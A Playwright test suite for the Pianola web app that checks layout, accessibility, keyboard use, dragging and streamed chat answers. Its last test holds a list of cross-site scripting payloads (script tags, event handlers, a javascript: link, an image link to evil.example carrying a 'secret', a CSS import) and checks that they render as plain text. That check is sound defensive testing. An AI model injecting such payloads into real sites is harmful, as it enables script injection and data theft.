"""How the page looks and works: layout on all screens, screen readers, keyboard, dragging, and nothing lost."""

import os
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.support.assistant_page import change, empty, id_of
from tests.support.axe import AXE, COLOURS, THEMES
from tests.support.browser import EVERYTHING, Chromium, Tab
from tests.support.needs import needs
from tests.support.ollama_double import Done, Line, Model, OllamaDouble, Say, Step, Tell, Think, Wait, speech, words_of
from tests.support.reach import ZOOMED, unreachable
from tests.support.system import ROOT, System

SCREENSHOTS = ROOT / "docs" / "screenshots"
OTHER_APPS = ("journal", "profiles")
SCREENS = {"desktop": (1280, 800), "phone": (390, 844), "narrow": (360, 640)}

ADVICE = """\
Three things make a *soft* touch, in this order:

1. **Weight** from the arm, not from the finger.
2. A wrist that stays loose.
3. Listening, as in `listen(note)`:

```python
def touch(weight: float, loose: bool = True) -> str:
    # what the hammer does with it
    return "p" if weight < 0.4 and loose else "f"
```

| touch | hammer | heard as |
|-------|--------|----------|
| light | slow   | *p*      |
| heavy | fast   | *f*      |

> Slow practice is fast progress.
"""

TITLES = (
    "Tune the piano",
    "Water the plants",
    "Write to Ada, and ask about the second violin",
    "Sheet music for four hands",
    "Tell the neighbours about the party",
)

LONG = "\n".join(f"Line {number}." for number in range(80))


def order(words: str, operation: str) -> list[Step]:
    return speech(f"{words}\n\n```json\n{operation}\n```")


def scene(body: dict[str, Any]) -> list[Step]:
    """Return the model's answer to the last message of the user."""
    words = words_of(body)
    if "touch" in words:
        return [Think("The user plays. "), Think("So: weight, wrist, ears."), *speech(ADVICE)]
    if "felt" in words:
        return order("On it.", '{"operation": "insert", "table": "todo", "values": {"title": "Order new felt"}}')
    if "second" in words:
        return order("As you wish.", '{"operation": "delete", "table": "todo", "id": 2}')
    if "again" in words:
        return [Say("I was about to"), Line({"error": "the model ran out of breath"})]
    return speech("Noted.")


@pytest.fixture(scope="module")
def ollama() -> Iterator[OllamaDouble]:
    models = (
        Model("qwen3:4b", ("completion", "tools", "thinking"), loaded=True),
        Model("far:cloud", remote_host="far.away", size=0),
    )
    with OllamaDouble(*models, respond=scene) as double:
        yield double


@pytest.fixture(scope="module")
def shared_system(ollama: OllamaDouble, chromium: Chromium) -> Iterator[System]:
    """The whole system, with a list and a conversation that contain every kind of content."""
    with System({"OLLAMA_HOST": ollama.url}) as system:
        system.start(*EVERYTHING)
        with chromium.visit(system) as tab:
            tab.page.get_by_role("radio", name="Quiet").check()
            for title in TITLES:
                tab.add(title)
                expect(tab.todo(title)).to_be_visible()
            tab.todo("Water").get_by_role("checkbox").check()
            converse(tab)
        yield system


def converse(tab: Tab) -> None:
    tab.say("Play it again")
    expect(tab.messages("assistant")).to_have_count(1)
    tab.answered("interrupted")
    tab.say("Delete the second one, water the plants")
    expect(tab.messages("action").last).to_have_attribute("data-state", "proposed")
    tab.say("How do I get a soft touch?")
    expect(tab.messages("assistant")).to_have_count(3)
    tab.answered()
    tab.say("We are out of felt")
    expect(tab.messages("action").last).to_have_attribute("data-state", "applied")


@pytest.fixture
def tab(shared_system: System, chromium: Chromium) -> Iterator[Tab]:
    with chromium.visit(shared_system) as tab:
        yield tab


@pytest.fixture
def fresh(tab: Tab) -> Tab:
    """A tab with an empty conversation."""
    tab.page.get_by_role("button", name="New conversation").click()
    expect(tab.page.locator("#chat-log article")).to_have_count(0)
    return tab


@pytest.fixture(scope="module")
def list_system() -> Iterator[System]:
    """The processes of the tests that change the list."""
    with System() as system:
        system.start(*EVERYTHING)
        yield system


@pytest.fixture
def list_tab(list_system: System, chromium: Chromium) -> Iterator[Tab]:
    """A tab with two todos."""
    names = list(list_system.processes)
    empty(list_system)
    with chromium.visit(list_system) as tab:
        tab.page.get_by_role("radio", name="Quiet").check()
        for title in ("first", "second"):
            tab.add(title)
            expect(tab.todo(title)).to_be_visible()
        yield tab
    list_system.start(*(name for name in names if name not in list_system.processes))


def choose(tab: Tab, theme: str) -> None:
    """Choose the colours as a user does."""
    tab.open_settings()
    tab.page.locator(f"#theme-{theme}").check()
    expect(tab.page.locator("html")).to_have_attribute("data-theme", theme)
    tab.page.keyboard.press("Escape")
    if tab.page.locator("#controls:popover-open").count():
        tab.page.keyboard.press("Escape")


def resize(page: Page, screen: str) -> None:
    width, height = SCREENS[screen]
    page.set_viewport_size({"width": width, "height": height})


def titles(tab: Tab) -> Locator:
    return tab.page.locator("#todo-list > li .title")


# --- layout ---


def test_nothing_is_wider_than_the_screen(tab: Tab) -> None:
    for screen, (width, _) in SCREENS.items():
        resize(tab.page, screen)
        for view in ("both", "app", "chat") if screen != "desktop" else ("both",):
            if screen != "desktop":
                tab.page.locator(f"#panes-{view}").check()
            assert tab.page.evaluate("document.documentElement.scrollWidth") <= width, (screen, view)
            expect(tab.page.locator("#chat-input")).to_be_in_viewport(ratio=1)


def test_on_a_wide_screen_the_bar_names_its_menus_in_full(tab: Tab) -> None:
    tab.page.locator("#model-menu > summary .chosen").evaluate(
        "element => element.textContent = 'long-name:70b-instruct-q4'"
    )

    for width in (1217, 1280, 1366, 1440, 1536, 1920):
        tab.page.set_viewport_size({"width": width, "height": 800})
        for menu in ("app", "settings"):
            expect(tab.page.locator(f"#{menu}-menu > summary")).to_be_in_viewport(ratio=1)
            name = tab.page.locator(f"#{menu}-menu > summary .chosen")
            assert name.evaluate("element => element.scrollWidth <= element.clientWidth"), (width, menu)


def test_on_a_narrow_screen_everything_can_be_reached(tab: Tab) -> None:
    resize(tab.page, "narrow")

    expect(tab.page.locator("#todo-form input[name=title]")).to_be_in_viewport(ratio=1)
    tab.page.locator("#controls-button").click()

    for control in ("#mode-chatty", "#settings-menu > summary", "#model-menu > summary"):
        expect(tab.page.locator(control)).to_be_in_viewport(ratio=1)
    tab.page.locator("#settings-menu > summary").click()
    tab.page.locator("#theme-dark").scroll_into_view_if_needed()
    expect(tab.page.locator("#theme-dark")).to_be_in_viewport(ratio=1)


def test_at_400_percent_every_control_can_be_reached(shared_system: System, chromium: Chromium) -> None:
    with chromium.visit(shared_system, reduced_motion="reduce") as tab:
        page = tab.page
        page.set_viewport_size(ZOOMED)
        assert unreachable(page) == []
        for view in ("app", "chat", "both"):
            page.locator(f"#panes-{view} + span").click()
            assert unreachable(page) == [], view
        for menu in MENUS:
            open_menu(tab, menu)
            assert unreachable(page, f"#{menu}-menu > .panel") == [], menu
            page.keyboard.press("Escape")
            page.keyboard.press("Escape")
        for opened in (open_help, ask_rename, ask_delete, open_servers, open_import):
            opened(tab)
            assert unreachable(page, "dialog[open]") == [], opened
            page.keyboard.press("Escape")
        titles(tab).first.dblclick()
        expect(page.locator("form.edit:visible")).to_have_count(1)
        assert unreachable(page) == []


# --- what the user's system asks for ---


CONTRAST = """() => {
    const channel = (value) => (value /= 255) <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4;
    const light = (colour) => {
        const [red, green, blue] = colour.match(/[\\d.]+/g).map(Number).map(channel);
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
    };
    const ground = light(getComputedStyle(document.getElementById("chat")).backgroundColor);
    const against = (colour) => {
        const [more, less] = [light(colour), ground].sort((one, other) => other - one);
        return (more + 0.05) / (less + 0.05);
    };
    const style = getComputedStyle(document.querySelector("#chat-log .about"));
    return [against(style.color), against(getComputedStyle(document.querySelector(".chat-head")).borderBottomColor)];
}"""
"""Contrast of the faintest text and of a line against the ground."""


def test_more_contrast_is_given_when_it_is_asked_for(tab: Tab) -> None:
    usual = contrasts(tab)

    tab.page.emulate_media(contrast="more")

    for theme, (text, line) in contrasts(tab).items():
        assert text >= 7, theme
        assert text > usual[theme][0], theme
        assert line >= 4.5 > usual[theme][1], theme
    expect(tab.page.locator("#todo-list .row-tools").first).to_have_css("opacity", "1")


def contrasts(tab: Tab) -> dict[str, tuple[float, float]]:
    """Return the contrasts of each theme."""
    choose_theme = "theme => { document.documentElement.dataset.theme = theme; }"
    found = {}
    for theme in THEMES:
        tab.page.evaluate(choose_theme, theme)
        found[theme] = tab.page.evaluate(CONTRAST)
    return found


READY = "rgb(46, 115, 72)"
"""The light's colour while all processes are there."""


def test_forced_colours_leave_icons_the_light_and_what_is_chosen(tab: Tab) -> None:
    light = tab.page.locator("#status .light")
    expect(light).to_have_css("background-color", READY)
    tab.page.locator("#todo-row-1").focus()
    tab.page.keyboard.press("x")

    tab.page.emulate_media(forced_colors="active")

    expect(light).to_have_css("background-color", READY)
    icon = tab.page.locator("#new-conversation").evaluate("one => getComputedStyle(one, '::before').backgroundColor")
    assert icon == system_colour(tab, "ButtonText") != system_colour(tab, "ButtonFace")
    for chosen in (".filters [aria-current]", ".row.selected", "#mode-switch input:checked + span"):
        expect(tab.page.locator(chosen).first).to_have_css("outline-style", "solid")


def system_colour(tab: Tab, name: str) -> str:
    """Return what a colour of the system is now."""
    show = "(one, name) => { one.style.color = name; return getComputedStyle(one).color; }"
    colour: str = tab.page.locator("body").evaluate(show, name)
    return colour


def test_nothing_moves_when_less_movement_is_asked_for(tab: Tab) -> None:
    moving = (
        "[...document.querySelectorAll('*')].filter((one) => getComputedStyle(one).transitionDuration !== '0s').length"
    )
    assert tab.page.evaluate(moving) > 10

    tab.page.emulate_media(reduced_motion="reduce")

    assert tab.page.evaluate(moving) == 0
    assert tab.page.evaluate("document.getAnimations().length") == 0


def test_the_theme_is_the_same_in_all_tabs_and_after_a_reload(tab: Tab) -> None:
    other = tab.second()

    choose(tab, "matrix")

    expect(other.page.locator("html")).to_have_attribute("data-theme", "matrix")
    other.reload()
    expect(other.page.locator("html")).to_have_attribute("data-theme", "matrix")
    assert other.page.evaluate("getComputedStyle(document.body).fontFamily").find("mono") >= 0
    choose(tab, "light")


WATCH_GLOW = """() => {
    globalThis.glowed = [];
    const add = Highlight.prototype.add;
    Highlight.prototype.add = function (range) {
        const [name] = [...CSS.highlights].find(([, highlight]) => highlight === this);
        glowed.push(`${name} ${range.startContainer.data.slice(range.startOffset, range.endOffset)}`);
        return add.call(this, range);
    };
}"""
"""Makes a list of what glows: the step and the text."""
GLOW_ENDED = "[...CSS.highlights.values()].every((highlight) => highlight.size === 0)"


@pytest.mark.parametrize("motion", ["no-preference", "reduce"])
def test_in_the_matrix_theme_what_is_new_fades_in_without_moving_anything(
    shared_system: System, chromium: Chromium, ollama: OllamaDouble, motion: Any
) -> None:
    written, go_on, end = threading.Event(), threading.Event(), threading.Event()
    with chromium.visit(shared_system, bypass_csp=True, reduced_motion=motion) as tab:  # to wait, Playwright calls eval
        choose(tab, "matrix")
        tab.page.evaluate(WATCH_GLOW)
        ollama.play([Say("One, "), Tell(written), Wait(go_on), Say("two."), Wait(end), Done()])
        tab.say("count")
        text = tab.answer().locator(".text")
        expect(text).to_have_text("One, ")
        tab.page.wait_for_function(GLOW_ENDED)
        go_on.set()
        expect(text).to_have_text("One, two.")
        size = text.bounding_box()
        tab.page.wait_for_function(GLOW_ENDED)
        assert text.bounding_box() == size
        second = [step for step in tab.page.evaluate("glowed") if step.endswith(" two.")]
        moves = motion == "no-preference"
        assert second == ([f"fresh-{step} two." for step in (1, 2, 3, 4)] if moves else [])
        name = tab.messages("user").last.evaluate("element => getComputedStyle(element).animationName")
        assert name == ("arrive" if moves else "none")
        end.set()
        tab.answered()
        choose(tab, "light")
        assert tab.messages("user").last.evaluate("element => getComputedStyle(element).textShadow") == "none"


@pytest.mark.long
def test_screenshots(shared_system: System, chromium: Chromium) -> None:
    needs(os.environ.get("PIANOLA_SCREENSHOTS") == "1", "only when PIANOLA_SCREENSHOTS=1", long=True)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with chromium.visit(shared_system, bypass_csp=True) as tab:  # without animations it adds a style
        plan(tab)
        for theme in THEMES:
            choose(tab, theme)
            for screen in SCREENS:
                shoot(tab, screen, f"{theme}-{screen}")
            resize(tab.page, "desktop")
        for app in OTHER_APPS:
            tab.page.goto(f"{tab.base}/apps/{app}")
            tab.connected()
            for theme in ("light", "dark"):
                choose(tab, theme)
                for screen in ("desktop", "phone"):
                    shoot(tab, screen, f"{app}-{theme}-{screen}")
                resize(tab.page, "desktop")
        choose(tab, "light")


def plan(tab: Tab) -> None:
    """Give the todos what a list has after some days: days, tags, something that repeats."""
    today = datetime.now(UTC).date()
    plans: dict[str, dict[str, object]] = {
        "Tune": {"due": str(today), "repeat": "FREQ=WEEKLY", "tags": ["piano"]},
        "Write to Ada": {"due": str(today + timedelta(days=2)), "tags": ["concert", "letters"]},
        "Sheet music": {"due": str(today + timedelta(days=9)), "tags": ["concert"]},
        "Order new felt": {"tags": ["piano", "shop"]},
    }
    for title, values in plans.items():
        change(tab.system, verb="update", table="todo", id=id_of(tab, title), values=values)
    expect(tab.todo("Order new felt")).to_contain_text("shop")


def shoot(tab: Tab, screen: str, name: str) -> None:
    resize(tab.page, screen)
    tab.page.mouse.move(0, 0)
    tab.page.evaluate("document.activeElement.blur()")
    tab.page.locator("#undo").evaluate("line => line.hidden = true")
    tab.page.screenshot(path=SCREENSHOTS / f"{name}.png", animations="disabled")


# --- accessibility ---


def test_axe_finds_no_violation(shared_system: System, chromium: Chromium) -> None:
    with chromium.visit(shared_system, bypass_csp=True, reduced_motion="reduce") as tab:
        tab.page.add_script_tag(path=AXE)
        for screen in ("desktop", "narrow"):
            resize(tab.page, screen)
            assert violations(tab.page) == []
        tab.page.locator("#controls-button").click()
        tab.page.locator("#model-menu > summary").click()
        assert violations(tab.page) == []
        resize(tab.page, "desktop")
        titles(tab).first.dblclick()
        assert violations(tab.page) == []
        tab.page.keyboard.press("Escape")


FORMULAS = """\
The sum is $\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$, and so:

$$\\begin{aligned} a &= \\sqrt{b^2 + c^2} \\\\ d &= \\left(\\frac{1}{2}\\right)^n \\end{aligned}$$

- [x] proved
- [ ] used

1. **First** a list:
   - with `code`

```diff
- old
+ new
```"""


def test_axe_finds_no_violation_in_an_answer_with_formulas_tasks_and_a_diff(
    shared_system: System, chromium: Chromium, ollama: OllamaDouble
) -> None:
    with chromium.visit(shared_system, bypass_csp=True, reduced_motion="reduce") as tab:
        tab.page.add_script_tag(path=AXE)
        tab.page.get_by_role("button", name="New conversation").click()
        expect(tab.page.locator("#chat-log article")).to_have_count(0)
        ollama.play(speech(FORMULAS))
        tab.say("a sum")
        tab.answered()
        expect(tab.answer().locator("math")).to_have_count(2)
        for screen in ("desktop", "narrow"):
            resize(tab.page, screen)
            assert violations(tab.page) == []


MENUS = ("app", "actions", "model", "settings", "conversation")


@pytest.mark.parametrize("screen", ["desktop", "narrow"])
def test_axe_finds_no_violation_in_menus_and_dialogs(shared_system: System, chromium: Chromium, screen: str) -> None:
    with chromium.visit(shared_system, bypass_csp=True, reduced_motion="reduce") as tab:
        tab.page.add_script_tag(path=AXE)
        resize(tab.page, screen)
        for menu in MENUS:
            open_menu(tab, menu)
            assert violations(tab.page, f"#{menu}-menu") == []
            tab.page.keyboard.press("Escape")
        search(tab)
        assert violations(tab.page, "#search") == []
        tab.page.keyboard.press("Escape")
        for opened in (open_help, ask_rename, ask_delete, open_servers, open_import):
            opened(tab)
            assert violations(tab.page, "dialog[open]") == []
            tab.page.keyboard.press("Escape")
            expect(tab.page.get_by_role("dialog")).to_have_count(0)


def open_menu(tab: Tab, menu: str) -> None:
    summary = tab.page.locator(f"#{menu}-menu > summary")
    if not summary.is_visible():
        tab.page.locator("#controls-button").click()
    summary.click()
    expect(tab.page.locator(f"#{menu}-menu > .panel")).to_be_visible()


def open_help(tab: Tab) -> None:
    tab.page.evaluate("document.activeElement.blur()")
    tab.page.keyboard.press("?")
    expect(tab.page.get_by_role("dialog", name="Help")).to_be_visible()


def talk_menu(tab: Tab, entry: str) -> None:
    """Choose what to do with the newest conversation."""
    open_menu(tab, "conversation")
    tab.page.get_by_role("button", name="More about “").first.click()
    tab.page.locator("#conversation-more").get_by_role("button", name=entry).click()


def ask_rename(tab: Tab) -> None:
    talk_menu(tab, "Rename …")
    expect(tab.page.get_by_role("dialog", name="Rename the conversation")).to_be_visible()


def ask_delete(tab: Tab) -> None:
    talk_menu(tab, "Delete …")
    expect(tab.page.get_by_role("dialog", name="Delete “")).to_be_visible()


def open_servers(tab: Tab) -> None:
    tab.page.evaluate("document.getElementById('servers').showModal()")


def open_import(tab: Tab) -> None:
    tab.page.evaluate("document.getElementById('files').showModal()")


def search(tab: Tab) -> None:
    tab.page.keyboard.press("Control+k")
    tab.page.keyboard.type("felt")
    expect(tab.page.get_by_role("option").first).to_be_visible()
    tab.page.keyboard.press("ArrowDown")


IN_EACH_THEME = """async ([within, themes, colours]) => {
    const root = document.documentElement, before = root.dataset.theme, found = [];
    for (const theme of themes) {
        root.dataset.theme = theme;
        found.push(...(await axe.run(within, theme === themes[0] ? {} : colours)).violations);
    }
    root.dataset.theme = before;
    return found;
}"""


def violations(page: Page, within: str = "html") -> list[str]:
    """Return what axe-core finds wrong in an element, as it is now, in each theme."""
    found = page.evaluate(IN_EACH_THEME, [within, THEMES, COLOURS])
    return [f"{one['id']}: {node['html'][:200]} {node['failureSummary']}" for one in found for node in one["nodes"]]


def test_the_log_is_busy_while_an_answer_is_written(fresh: Tab, ollama: OllamaDouble) -> None:
    written, go_on = threading.Event(), threading.Event()
    ollama.play([Say("One, "), Tell(written), Wait(go_on), Say("two."), Done()])

    fresh.say("count")

    log = fresh.page.get_by_role("log")
    expect(fresh.answer().locator(".text")).to_have_text("One, ")
    expect(log).to_have_attribute("aria-busy", "true")
    go_on.set()
    assert fresh.answered() == "One, two."
    expect(log).to_have_attribute("aria-busy", "false")


# --- keyboard ---


def test_the_first_tab_key_offers_to_skip_the_list(tab: Tab) -> None:
    tab.page.keyboard.press("Tab")
    expect(tab.page.get_by_role("link", name="Skip to the chat")).to_be_focused()

    tab.page.keyboard.press("Enter")

    expect(tab.page.locator("#chat-input")).to_be_focused()


def test_a_message_is_written_sent_and_stopped_by_keyboard(fresh: Tab, ollama: OllamaDouble) -> None:
    ollama.play([Say("Well "), Wait(threading.Event())])
    keys = fresh.page.keyboard

    keys.press("/")
    keys.type("two")
    keys.press("Shift+Enter")
    keys.type("lines")
    keys.press("Enter")

    expect(fresh.messages("user").locator(".text")).to_have_text("two\nlines")
    expect(fresh.page.locator("#chat-input")).to_have_value("")
    expect(fresh.answer().locator(".text")).to_have_text("Well ")
    keys.press("Escape")
    assert fresh.answered("stopped") == "Well"
    expect(fresh.answer().get_by_role("button", name="Continue")).to_be_visible()


def test_rows_are_added_edited_and_moved_by_keyboard(list_tab: Tab) -> None:
    keys = list_tab.page.keyboard
    list_tab.todo("first").get_by_role("checkbox").focus()

    keys.press("Space")
    expect(list_tab.todo("first")).to_have_attribute("data-done", "")
    expect(list_tab.todo("first").get_by_role("checkbox")).to_be_focused()

    keys.press("Alt+ArrowDown")
    expect(titles(list_tab)).to_have_text(["second", "first"])
    expect(list_tab.todo("first").get_by_role("checkbox")).to_be_focused()
    list_tab.reload()
    expect(titles(list_tab)).to_have_text(["second", "first"])

    list_tab.todo("second").get_by_role("button", name="Edit").focus()
    keys.press("Enter")
    keys.type("third")
    keys.press("Enter")
    expect(titles(list_tab)).to_have_text(["third", "first"])

    list_tab.todo("third").get_by_role("button", name="Edit").press("Enter")
    keys.type("never")
    keys.press("Escape")
    expect(titles(list_tab)).to_have_text(["third", "first"])

    more = list_tab.todo("first").get_by_role("button", name="More")
    list_tab.do_with(list_tab.todo("third"), "Move down")
    expect(titles(list_tab)).to_have_text(["first", "third"])
    list_tab.do_with(list_tab.todo("third"), "Delete")
    expect(titles(list_tab)).to_have_text(["first"])
    expect(more).to_be_focused()

    more.press("Enter")
    keys.press("Escape")
    expect(more).to_be_focused()
    list_tab.do_with(list_tab.todo("first"), "Delete")
    expect(list_tab.page.locator("#todo-form input[name=title]")).to_be_focused()


def test_a_row_is_dragged_to_its_place(list_tab: Tab) -> None:
    other = list_tab.second()
    handle = list_tab.todo("second").locator("[data-move]")
    list_tab.todo("second").hover()

    handle.drag_to(list_tab.todo("first").locator("[data-move]"))

    for one in (list_tab, other):
        expect(titles(one)).to_have_text(["second", "first"])


# --- nothing that the user is doing is lost ---


def test_an_open_edit_survives_changes_of_others_to_the_list(list_tab: Tab) -> None:
    other = list_tab.second()
    titles(list_tab).first.dblclick()
    list_tab.page.keyboard.type("mine, unfini")

    other.todo("first").get_by_role("checkbox").check()
    other.add("fourth")
    other.todo("fourth").get_by_role("checkbox").focus()
    other.page.keyboard.press("Alt+ArrowUp")
    expect(titles(list_tab)).to_have_text(["first", "fourth", "second"])
    list_tab.page.keyboard.type("shed")
    list_tab.page.keyboard.press("Enter")

    for one in (list_tab, other):
        expect(titles(one)).to_have_text(["mine, unfinished", "fourth", "second"])
        expect(one.todo("mine")).to_have_attribute("data-done", "")


def test_a_user_who_scrolled_up_stays_there_while_text_streams(fresh: Tab, ollama: OllamaDouble) -> None:
    written, go_on = threading.Event(), threading.Event()
    ollama.play([Say(LONG), Tell(written), Wait(go_on), Say(LONG), Done()])
    fresh.say("a long one")
    scroller, end = fresh.page.locator("#chat-scroll"), fresh.page.locator("#chat-end")
    expect(fresh.answer().locator(".text")).to_contain_text("Line 79.")
    expect(end).to_be_hidden()

    scroller.hover()
    fresh.page.mouse.wheel(0, -600)
    expect(end).to_be_visible()
    before = scroller.evaluate("element => element.scrollTop")
    go_on.set()
    fresh.answered()

    assert scroller.evaluate("element => element.scrollTop") == before
    end.click()
    expect(end).to_be_hidden()


MARK = """
element => {
    window.shifts = 0;
    for (const block of element.children) block.seen = true;
    new PerformanceObserver(list => { for (const entry of list.getEntries()) shifts += entry.value; })
        .observe({ type: "layout-shift" });
}
"""


def test_blocks_are_drawn_as_they_end_and_nothing_moves_at_the_end(fresh: Tab, ollama: OllamaDouble) -> None:
    written, go_on = threading.Event(), threading.Event()
    ollama.play([*(Say(letter) for letter in f"{ADVICE}\nThat is all."), Tell(written), Wait(go_on), Done()])
    fresh.say("a long one")
    text = fresh.answer().locator(".text")
    expect(text.locator("p").last).to_have_text("That is all.")
    shown = ["P", "OL", "DIV", "DIV", "BLOCKQUOTE", "P"]
    assert text.evaluate("element => [...element.children].map(one => one.tagName)") == shown
    expect(text.locator("ol strong")).to_have_text("Weight")
    expect(text.locator("pre .k").first).to_have_text("def")
    other = fresh.second()
    expect(other.answer().locator(".text > p").last).to_have_text("That is all.")
    assert other.answer().locator(".text").inner_html() == text.inner_html()
    text.evaluate(MARK)

    go_on.set()
    fresh.answered()

    assert text.evaluate("element => [...element.children].map(one => one.seen ?? false)") == [True] * 5 + [False]
    fresh.page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert fresh.page.evaluate("shifts") == 0
    before = text.inner_html()
    fresh.reload()
    assert text.inner_html() == before  # nothing was folded, because the user asked for a long one


LISTED = """\
Do it so:

1. **First** this:
   - with care
   - with `code`
2. Then that:
   ```sh
   make up
   ```

3. And at last

Words between.

4. Four
5. Five

What is left:
- [ ] one
- [x] *two*
- three"""


def test_items_of_a_list_are_drawn_as_they_end_and_nothing_moves_at_the_end(fresh: Tab, ollama: OllamaDouble) -> None:
    written, go_on = threading.Event(), threading.Event()
    ollama.play([*(Say(letter) for letter in LISTED), Tell(written), Wait(go_on), Done()])
    fresh.say("a long list")
    text = fresh.answer().locator(".text")
    expect(text.locator("li").last).to_have_text("three")
    expect(text.locator("ol").first.locator("> li")).to_have_count(3)
    expect(text.locator("ol").last).to_have_attribute("start", "4")
    expect(text.locator("ul").last.locator("em")).to_have_text("two")
    other = fresh.second()
    expect(other.answer().locator("li").last).to_have_text("three")
    assert squeezed(other.answer().locator(".text")) == squeezed(text)
    text.evaluate(MARK)
    text.evaluate("element => element.querySelectorAll('li').forEach(item => item.seen = true)")

    go_on.set()
    fresh.answered()

    seen = text.evaluate("element => [...element.querySelectorAll('li')].map(item => item.seen ?? false)")
    assert seen == [True] * 9 + [False]
    fresh.page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert fresh.page.evaluate("shifts") == 0
    before = text.inner_html()
    fresh.reload()
    assert text.inner_html() == before


def squeezed(text: Locator) -> str:
    """Return the HTML of a text without the lines between its elements."""
    return text.inner_html().replace("\n<", "<").replace(">\n", ">")


def test_a_refused_text_comes_back_with_the_reason(list_tab: Tab) -> None:
    title = list_tab.page.locator("#todo-form input[name=title]")
    title.fill("x" * 3000)

    title.press("Enter")

    expect(list_tab.page.locator("#todo-form .fault")).to_contain_text("at most 2,000 fit")
    expect(title).to_have_value("x" * 3000)


def test_a_message_written_while_offline_arrives_once(list_tab: Tab) -> None:
    list_tab.tolerates_lost_connection = True
    list_tab.system.kill("web")
    expect(list_tab.page.locator("#link")).to_have_text("Reconnecting …")

    list_tab.add("while away")
    list_tab.system.start("web")

    expect(list_tab.todo("while away")).to_have_count(1)
    expect(list_tab.page.locator("#link")).to_have_text("")
    list_tab.reload()
    expect(titles(list_tab)).to_have_text(["first", "second", "while away"])


def test_a_message_and_its_code_are_copied(shared_system: System, chromium: Chromium) -> None:
    with chromium.visit(shared_system, permissions=["clipboard-read", "clipboard-write"]) as tab:
        tab.page.locator("#conversation-menu > summary").click()
        tab.page.get_by_role("link", name="Play it again", exact=True).click()
        expect(tab.page.locator("#conversation-menu > summary")).to_contain_text("Play it again")
        answer = tab.messages("assistant").filter(has_text="soft touch")
        expect(answer.locator("pre")).to_be_visible()

        answer.hover()
        answer.get_by_role("button", name="Copy the message").click()
        assert tab.page.evaluate("navigator.clipboard.readText()") == ADVICE

        answer.get_by_role("button", name="Copy the code").click()
        assert tab.page.evaluate("navigator.clipboard.readText()").startswith("def touch(weight: float")


HOSTILE = [
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=\"document.title = 'owned'\">",
    "<svg onload=\"document.title = 'owned'\"><foreignObject>",
    "<iframe srcdoc=\"<script>parent.document.title = 'owned'</script>\"></iframe>",
    '<div hx-get="/healthz" hx-trigger="load" hx-swap-oob="true" id="app">gone</div>',
    "[click](javascript:document.title='owned') ![x](http://evil.example/?d=secret)",
    "</article></div><style>@import 'http://evil.example'</style>",
]


def test_hostile_text_is_shown_as_text(fresh: Tab, ollama: OllamaDouble) -> None:
    everything = "\n\n".join(HOSTILE)
    ollama.play([*(Say(letter) for letter in everything), Done()])

    fresh.say(everything)
    fresh.add(HOSTILE[1])

    expect(fresh.todo("onerror")).to_contain_text(HOSTILE[1])
    fresh.answered()
    for one in (fresh.messages("user"), fresh.answer(), fresh.todo("onerror")):
        text = one.locator(".text, .title")
        assert (
            text.locator("script, img, svg, iframe, style, form, [onerror], [onload], [hx-get], [id=app]").count() == 0
        )
    assert fresh.page.title() == "Todo · Pianola"
    expect(fresh.page.locator("#app")).to_have_count(1)
    fresh.todo("onerror").focus()
    fresh.page.keyboard.press("Delete")
